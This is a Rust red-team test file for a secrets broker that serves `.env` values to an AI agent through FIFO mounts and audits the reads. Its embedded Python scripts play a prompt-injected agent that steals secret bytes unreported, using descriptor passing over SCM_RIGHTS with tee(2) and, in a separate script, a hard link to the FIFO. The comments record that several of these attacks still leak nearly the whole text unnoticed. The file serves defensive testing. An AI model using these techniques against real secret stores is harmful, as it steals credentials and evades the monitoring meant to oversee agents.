//! Red team s12 of issue 22 (`.env` mounts), after the count of openings (fanotify from
//! `mkfifo` on) and the check that the reader is blocked reading the FIFO's own descriptor:
//! a prompt-injected agent (same uid, shell, `/proc`, the socket) trying to copy bytes of a
//! mount read without the read being refused or reported. A held attack is a passing test;
//! one that still works is kept `#[ignore = "LEAK: ..."]`, or `#[ignore = "LIMIT (docs/mounts.md
//! ...)"]` where no look of the broker can see it and every card says so.
#![allow(clippy::print_stderr)] // the figures of each attempt (counts only, never a value)

use std::time::Duration;

use crate::harness::{Home, text};
use crate::mount::{Project, approve_card, finished, mount, store, values, wait_card};
use crate::redteam_s9c::longest_run;

/// The agent. It forks a thief (B) first, sharing a `socketpair`; then (A) opens `.env` by
/// name itself, blocking: the one opening the count sees. A sends a copy of that open file
/// into the socket's queue (`SCM_RIGHTS`: in flight, in no `/proc/PID/fd`, no opening), makes
/// it its standard input and execs an ordinary program that reads its standard input (python3
/// counting bytes: the same executable the agent runs, so the card pins the same binary).
/// That program is the only holder, it opened nothing after the count started, and it is
/// blocked in `read(0)` on the FIFO's own descriptor: every check of the reader holds. B
/// waits for the reader's fd 0 to be the FIFO, then at each write (its modification time,
/// through `stat(/proc/A/fd/0)`: no descriptor) takes the parked copy back (`recvmsg`), copies
/// the pipe with non-blocking `tee(2)` (consumes nothing) for at most `argv[4]` ms and parks
/// it again. After `argv[3]` pieces copied (or the reader gone, or 2 s quiet) it takes the copy
/// back and closes it, so no read end of its own is left when the reader closes (the check
/// after the text; `argv[6]`: how many ms without a write, once it copied a piece, make it
/// drop its copy). `argv[5]` = `1`: two busy loops per CPU (normal priority), so the woken
/// reader waits for a CPU. B writes what it copied to `argv[2]`, then `argv[2].done`.
const INHERIT: &str = r#"
import os, sys, time, ctypes, socket, stat, signal
path, out, nmax, window, spin, quiet = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]) / 1000, sys.argv[5] == "1", float(sys.argv[6]) / 1000
a, b = socket.socketpair()
reader = os.getpid()
if os.fork() != 0:
    fd = os.open(path, os.O_RDONLY)  # blocks until the broker's poll opens it for writing
    socket.send_fds(a, [b"x"], [fd])  # a copy in flight: no opening, in no table
    os.dup2(fd, 0); os.close(fd)
    os.execvp("python3", ["python3", "-c", "import sys\nsys.stdout.write(str(len(sys.stdin.buffer.read())))\n"])
libc = ctypes.CDLL(None, use_errno=True)
src = f"/proc/{reader}/fd/0"
t0 = time.time()
while time.time() - t0 < 30:
    try:
        if stat.S_ISFIFO(os.stat(src).st_mode):
            break
    except OSError:
        pass
    time.sleep(0.001)
spinners = []
if spin:
    for _ in range(2 * len(os.sched_getaffinity(0))):
        c = os.fork()
        if c == 0:
            libc.prctl(1, signal.SIGKILL)
            while True:
                pass
        spinners.append(c)
r, w = os.pipe()
data = []; copies = 0
try:
    m0 = os.stat(src).st_mtime_ns
except OSError:
    m0 = 0
last = time.time()
while copies < nmax and time.time() - last < (quiet if copies else 30):
    try:
        m = os.stat(src).st_mtime_ns
    except OSError:
        break  # the reader is gone
    if m == m0:
        continue
    m0 = m; last = time.time()
    _, fds, _, _ = socket.recv_fds(b, 1, 1)  # back, without an opening
    fd = fds[0]; t1 = time.time()
    while time.time() - t1 < window:
        n = libc.tee(fd, w, 1 << 16, 2)  # SPLICE_F_NONBLOCK
        if n > 0:
            got = os.read(r, n)
            if not data or data[-1] != got:
                data.append(got); copies += 1
            break
    socket.send_fds(a, [b"x"], [fd]); os.close(fd)  # parked again
_, fds, _, _ = socket.recv_fds(b, 1, 1)
os.close(fds[0])  # dropped before the reader closes: no read end left behind
for c in spinners:
    os.kill(c, signal.SIGKILL)
sys.stderr.write(f"copies {copies}\n")
with open(out, "wb") as f:
    f.write(b"".join(data))
open(out + ".done", "w").close()
"#;

/// What the inheriting agent came to: (bytes copied, longest run of one value, whether the
/// broker refused or reported anything, what the human is told).
fn inherited(max_pieces: u32, spin: bool, quiet_ms: u32) -> (usize, usize, bool, String) {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let out = p.tmp.path().join("stolen");
    let reader = p.reader(
        &[
            "python3",
            "-c",
            INHERIT,
            p.env_file().to_str().unwrap(),
            out.to_str().unwrap(),
            &max_pieces.to_string(),
            "2",
            if spin { "1" } else { "0" },
            &quiet_ms.to_string(),
        ],
        &[],
    );
    let card = wait_card(&h);
    eprintln!(
        "card argv: {} words",
        card["argv"].as_array().map_or(0, Vec::len)
    );
    approve_card(&h, &card, &[]);
    let honest = finished(reader);
    let done = out.with_extension("done");
    let t0 = std::time::Instant::now();
    while !done.exists() {
        assert!(
            t0.elapsed() < Duration::from_secs(60),
            "the thief never finished"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // Let the broker finish its checks after the text.
    std::thread::sleep(Duration::from_millis(1500));
    let stolen = std::fs::read(&out).unwrap();
    let audit = h.audit_text();
    for e in audit
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|e| e["event"].as_str().is_some_and(|n| n.starts_with("mount_")))
    {
        eprintln!("audit: {} {}", e["event"], e["why"]);
    }
    let flagged = audit.contains("\"mount_read_suspect\"") || audit.contains("\"mount_refused\"");
    let longest = vals
        .iter()
        .map(|(_, v)| longest_run(&stolen, v.as_bytes()))
        .max()
        .unwrap_or(0);
    let whole = vals
        .iter()
        .filter(|(_, v)| crate::harness::contains(&stolen, v))
        .count();
    eprintln!(
        "inherited (spin {spin}): {} bytes copied, {whole} of {} values whole, longest run of a value {longest}, flagged {flagged}, honest read {}",
        stolen.len(),
        vals.len(),
        text(&honest.stdout)
    );
    (stolen.len(), longest, flagged, h.ok(&["mounts"]))
}

/// The reader's standard input is the agent's own opening of `.env`, a copy of which the agent
/// sent into a socket's queue before it exec'd the reader (a descriptor obtained without an
/// opening: the count sees one opening, the reader's, and the holders scan one holder). The
/// reader is an ordinary program blocked reading the FIFO through its own descriptor. The
/// thief copies a few pieces with `tee(2)` and drops its copy long before the text ends.
/// Measured (7 runs, all unreported): 4 to 27 bytes copied, up to 16 consecutive bytes of one
/// value, card `python3 -c ...` (the exec'd reader), audit `mount_read` only.
#[test]
#[ignore = "LIMIT (docs/mounts.md, What a mount cannot give: a reader handed `.env` already open): a read end sent over SCM_RIGHTS before the reader's exec shares the reader's one opening (fanotify counts 1, /proc shows one holder blocked on the FIFO); a tee copier that drops it before the text ends copies pieces unreported; every card says so"]
fn a_copy_of_the_readers_own_opening_sent_before_exec_copies_pieces_unreported() {
    let (bytes, longest, flagged, mounts) = inherited(6, false, 2000);
    assert!(
        bytes == 0 || flagged,
        "the thief copied {bytes} bytes (longest run of one value {longest}) unreported; mounts: {mounts}"
    );
}

/// The same with the agent's busy loops (two per CPU, normal priority): the woken reader
/// waits for a CPU while the thief's `tee` runs. Measured (6 runs that got a card; 2 more got
/// none within 20 s on this loaded machine): 22 to 31 bytes copied, up to 11 consecutive bytes
/// of one value; 3 unreported, 3 reported (the thief, slowed by its own spinners, dropped its
/// copy after the reader closed: "a read end ... outlived"). Fails only in some runs.
#[test]
#[ignore = "LIMIT (docs/mounts.md, What a mount cannot give: a reader handed `.env` already open): as above, under CPU load: the check after the text catches the thief only when it drops its copy too late"]
fn a_copy_of_the_readers_own_opening_sent_before_exec_with_spinners_copies_pieces_unreported() {
    let (bytes, longest, flagged, mounts) = inherited(6, true, 2000);
    assert!(
        bytes == 0 || flagged,
        "the thief copied {bytes} bytes (longest run of one value {longest}) unreported; mounts: {mounts}"
    );
}

/// The same thief copying every piece it can, which drops its copy once no write came for
/// 20 ms (the text is over: the broker writes the next piece as soon as the reader read the
/// last, mostly well under that), before the reader has exited and closed the FIFO. Measured,
/// all unreported (audit `mount_read` only): with 5 ms, 5 runs: 249 and 241 of the 259 bytes
/// (runs of 35 and 46 bytes of one value), and 4 to 6 bytes where a pause of over 5 ms between
/// two pieces on this loaded machine made it drop early; with 20 ms, 4 runs: 8 to 147 bytes
/// (up to 25 consecutive bytes of one value).
#[test]
#[ignore = "LIMIT (docs/mounts.md, What a mount cannot give: a reader handed `.env` already open): as above, the copier keeping its copy until the text is over (5 ms without a write) and dropping it before the reader closes: nearly the whole text, unreported"]
fn a_copy_of_the_readers_own_opening_sent_before_exec_copies_the_whole_text_unreported() {
    let (bytes, longest, flagged, mounts) = inherited(100_000, false, 20);
    assert!(
        bytes == 0 || flagged,
        "the thief copied {bytes} bytes (longest run of one value {longest}) unreported; mounts: {mounts}"
    );
}

/// The agent's hard link: before the reader opens `.env`, it links the FIFO under another name
/// (`os.link`, same filesystem), so the swap at approval leaves the served FIFO reachable. Once
/// the card is approved it opens the link without blocking (a read end after the reader's) and
/// copies the pipe with non-blocking `tee(2)` until the reader is gone. Prints what it copied.
const LINKER: &str = r#"
import os, sys, time, ctypes
path, link, ready, go = sys.argv[1:5]
os.link(path, link)
open(ready, "w").close()
while not os.path.exists(go):
    time.sleep(0.001)
libc = ctypes.CDLL(None, use_errno=True)
fd = None; t0 = time.time()
while fd is None and time.time() - t0 < 10:
    try:
        fd = os.open(link, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        time.sleep(0.001)
r, w = os.pipe(); data = []; t0 = time.time()
while fd is not None and time.time() - t0 < 8:
    n = libc.tee(fd, w, 1 << 16, 2)  # SPLICE_F_NONBLOCK
    if n > 0:
        got = os.read(r, n)
        if not data or data[-1] != got:
            data.append(got)
sys.stdout.buffer.write(b"".join(data))
"#;

/// A hard link made before the read keeps the served FIFO openable by name after the swap:
/// held, the broker checks that the served FIFO has no name left (`st_nlink == 0`) before the
/// first piece, and the link's opening is counted (fanotify) and watched (inotify); the
/// thief copies nothing unreported. Measured (3 runs): 0 bytes copied, nothing written to the
/// reader (it read end-of-file), the refusal audited.
#[test]
fn a_hard_link_to_the_fifo_made_before_the_read_copies_nothing_unreported() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let ready = p.tmp.path().join("link-ready");
    let go = p.tmp.path().join("link-go");
    let link = p.path().join("linked-fifo");
    let thief = std::process::Command::new("python3")
        .args([
            "-c",
            LINKER,
            p.env_file().to_str().unwrap(),
            link.to_str().unwrap(),
            ready.to_str().unwrap(),
            go.to_str().unwrap(),
        ])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    crate::redteam_s9c::wait_ready(&p, "link-ready");
    let reader = p.reader(
        &[
            "python3",
            "-c",
            "import sys\nsys.stdout.write(str(len(open('.env').read())))\n",
        ],
        &[],
    );
    let card = wait_card(&h);
    approve_card(&h, &card, &[]);
    std::fs::write(&go, b"").unwrap();
    let honest = finished(reader);
    let stolen = crate::harness::wait_output(thief, Duration::from_secs(30));
    assert!(
        stolen.status.success(),
        "thief failed: {}",
        text(&stolen.stderr)
    );
    let audit = h.audit_text();
    let flagged = audit.contains("\"mount_read_suspect\"")
        || audit.contains("\"mount_refused\"")
        || audit.contains("\"mount_not_written\"");
    eprintln!(
        "hard link: {} bytes copied, flagged {flagged}, honest read {}",
        stolen.stdout.len(),
        text(&honest.stdout)
    );
    assert!(
        stolen.stdout.is_empty() || flagged,
        "the thief copied {} bytes through a hard link unreported; mounts: {}",
        stolen.stdout.len(),
        h.ok(&["mounts"])
    );
}
